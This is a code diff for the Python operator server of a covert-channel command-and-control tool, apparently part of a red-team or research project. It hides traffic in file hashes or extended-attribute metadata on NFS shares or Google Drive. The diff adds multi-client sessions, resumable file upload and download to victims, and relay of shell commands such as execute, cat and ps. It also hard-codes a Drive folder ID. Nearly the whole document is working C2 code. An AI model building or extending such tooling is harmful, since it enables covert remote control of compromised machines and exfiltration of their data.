@@ -3,21 +3,26 @@ TO DO: add upload/download capabilites
     - so easy to do
 """
 
+import asyncio
 import os
 import sys
+import threading
 
 from src.mediums.linux_filesystem import LinuxFileSystem
 from src.mediums.drive_filesystem import GoogleDriveFilesystem
 from src.protocol.hash_protocol import HashProtocol
 from src.protocol.metadata_protocol import MetadataProtocol
 
-from src.utils import decode_base64, encode_base64
+from src.metrics import metrics, JsonSink, METRICS_ENV
+from src.sessions import SessionManager
+from src.transfer import send_file, receive_file
 
 default_linux_path = "/home/futureleader/Research/metasploit-framework/fileshare/"
 default_creds = "creds/credentials.json"
 default_folder_id = "1KBwGwewMn74HOKVTZrZup3ewc-Lv_cAV"
 
 
+# returns a function opening the selected share, every client channel gets its own
 def select_filesystem():
     print("Select filesystem:")
     print("  1) Linux / NFS (default)")
@@ -28,35 +33,92 @@ def select_filesystem():
 
         folder_id = input(f"Enter Google Drive folder ID (default: {default_folder_id}): ").strip(
         ) or default_folder_id
-        fs = GoogleDriveFilesystem(default_creds, folder_id)
+        return lambda: GoogleDriveFilesystem(default_creds, folder_id)
 
     else:
         path = input(f"Enter mounted Linux path (default: {default_linux_path}): ").strip(
         ) or default_linux_path
-        fs = LinuxFileSystem(path)
-    return fs
+        # both ends must agree, the ruby client uses one xattr per property
+        packed = input("Packed xattrs? (y/N): ").strip().lower() == "y"
+        return lambda: LinuxFileSystem(path, packed_xattrs=packed)
 
 
-def select_protocol(fs):
+# returns a function creating the selected protocol on a filesystem
+def select_protocol(new_filesystem):
     print("Select covert channel protocol:")
     print("  1) Hash protocol (default)")
     print("  2) Metadata protocol")
     choice = input("Choice (default Metadata): ").strip() or "1"
 
+    window = int(input("Batches in flight (default 1): ").strip() or "1")
+    # both ends must agree, the ruby client only speaks the unframed format
+    framing = input("Binary framing? (y/N): ").strip().lower() == "y"
+    compression = framing and input("Compress messages? (y/N): ").strip().lower() == "y"
+    # both ends must agree on this too
+    segments = int(framing and input("Tagged segments per batch (default 1): ").strip() or "1")
+    parity = int(segments > 1 and input("Parity segments (default 0): ").strip() or "0")
+    workers = int(input("Parallel file workers (default 1): ").strip() or "1")
+    # both ends must agree. the session manager only keeps serving clients
+    # while others join with epochs, without them it serves a single client
+    epochs = input("Epoch repartitioning (y for several clients)? (y/N): ").strip().lower() == "y"
+    options = {"window": window, "framing": framing, "compression": compression,
+               "workers": workers, "segments": segments, "parity": parity, "epochs": epochs}
+
     if choice == "2":
-        return MetadataProtocol(fs)
+        # a layout stored with the share is always used, this only probes one
+        probe = input("Probe property layout? (y/N, r to re-probe): ").strip().lower()
+        if probe in ("y", "r"):
+            new_filesystem().tune_properties(refresh=probe == "r")
+        return lambda fs: MetadataProtocol(fs, **options)
     
     else:
-        return HashProtocol(fs)
+        bytes_per_file = int(input("Bytes per file (1-4, default 1): ").strip() or "1")
+        return lambda fs: HashProtocol(fs, bytes_per_file=bytes_per_file, **options)
+
+
+# "all" selects every client, otherwise a comma separated list of client ids
+def parse_targets(text):
+    if text == "all":
+        return None
+    return [int(channel) for channel in text.split(",")]
+
 
-fs = select_filesystem()
-cc = select_protocol(fs)
+# prints one line per client, prefixed with the client id when there are several
+def show(results, describe):
+    if not results:
+        print("No client selected")
+    for channel, result in sorted(results.items()):
+        text = f"error: {result}" if isinstance(result, Exception) else describe(result)
+        print(f"[client {channel}] {text}" if len(results) > 1 else text)
+
+
+if os.environ.get(METRICS_ENV):
+    metrics.set_sink(JsonSink(os.environ[METRICS_ENV]))
+
+new_filesystem = select_filesystem()
+new_protocol = select_protocol(new_filesystem)
+fs = new_filesystem()
 
 if len(sys.argv) > 1:
     fs.set_client_count(0)
 
+# sessions run on an event loop in the background while commands are typed here
+loop = asyncio.new_event_loop()
+threading.Thread(target=loop.run_forever, daemon=True).start()
+
+def call(coro):
+    return asyncio.run_coroutine_threadsafe(coro, loop).result()
+
+# every client that joins gets its own channel, commands go to all of them
+# unless narrowed with `use <ids>` or a one-off `@<ids> <command>`
+manager = SessionManager(fs, lambda: new_protocol(new_filesystem()))
+asyncio.run_coroutine_threadsafe(
+    manager.accept(lambda session: print(f"\n[+] client {session.channel} connected"),
+                   lambda channel, e: print(f"\n[-] client {channel} failed to join: {e}")), loop)
+
 print("Waiting for connection...")
-cc.wait_for_connection()
+call(manager.wait_for_session())
+targets = None
 
 
 # SETUP + RUN SERVER C2
@@ -68,47 +130,55 @@ while True:
     if not user_input:
         continue
 
+    # SELECT clients for this command only
+    channels = targets
+    if user_input.startswith("@"):
+        selector, _, user_input = user_input.partition(" ")
+        channels = parse_targets(selector[1:])
+        user_input = user_input.strip()
+        if not user_input:
+            continue
+
     # EXTRACT arguments
     cmd_name, *args = user_input.split()
-    output = "Received no output"
 
-    # DOWNLOAD
-    if cmd_name == "download" and args:
+    # SESSIONS
+    if cmd_name == "sessions":
+        print(", ".join(f"client {channel}" for channel in manager.sessions) or "No clients")
+
+    elif cmd_name == "use" and args:
+        targets = parse_targets(args[0])
+        print(f"Sending commands to {args[0]}")
+
+    # DOWNLOAD (streamed in chunks, resumes a previous partial download)
+    elif cmd_name == "download" and args:
         remotepath, localpath = args
-        cc.write(f'download {remotepath}'.encode())
-        recv_split = cc.read().split(b' ')
-        if recv_split[0] == b'failed':
-            output = "failed to download file!"
-        else:
-            decoded = decode_base64(recv_split[1])
-            with open(localpath, 'wb') as fil:
-                fil.write(decoded)
-            output = "successfully downloaded file!"
-
-    # UPLOAD
+        # one local copy per client when downloading from several
+        many = len(manager.select(channels)) > 1
+        results = call(manager.gather(channels, lambda session: session.run(
+            receive_file, remotepath, f"{localpath}.{session.channel}" if many else localpath)))
+        show(results, lambda ok: "successfully downloaded file!" if ok
+             else "failed to download file! run it again to resume")
+
+    # UPLOAD (streamed in chunks, resumes a previous partial upload)
     elif cmd_name == "upload" and args:
         localpath, remotepath = args
-        filedata = b''
-        with open(localpath, 'rb') as fil:
-            filedata = fil.read()
-        encoded = encode_base64(filedata)
-        command = b'upload ' + remotepath.encode() + b' ' + encoded
-        cc.write(command)
-        recv = cc.read()
-        if recv == b'success':
-            output = "successfully uploaded file!"
-        else:
-            output = "failed to upload file!"
+        results = call(manager.run(send_file, localpath, remotepath, channels=channels))
+        show(results, lambda ok: "successfully uploaded file!" if ok
+             else "failed to upload file! run it again to resume")
 
     # EXECUTE + SPECIAL
     elif cmd_name in ["ls", "ps", "cd", "pwd", "cat", "execute"]:
         # can just send as it is
-        cc.write(user_input.strip().encode())
-        output = cc.read().decode()
+        results = call(manager.request(user_input.strip().encode(), channels))
+        show(results, lambda output: output.decode() or "Received no output")
 
     elif cmd_name in ("quit", "exit"):
-        cc.write(user_input.encode())
-        exit()
+        call(manager.close(user_input.encode(), channels))
+        if not manager.sessions:
+            exit()
+
+    else:
+        print("Received no output")
 
-    # output the response
-    print(output)
\ No newline at end of file
+    metrics.flush()
\ No newline at end of file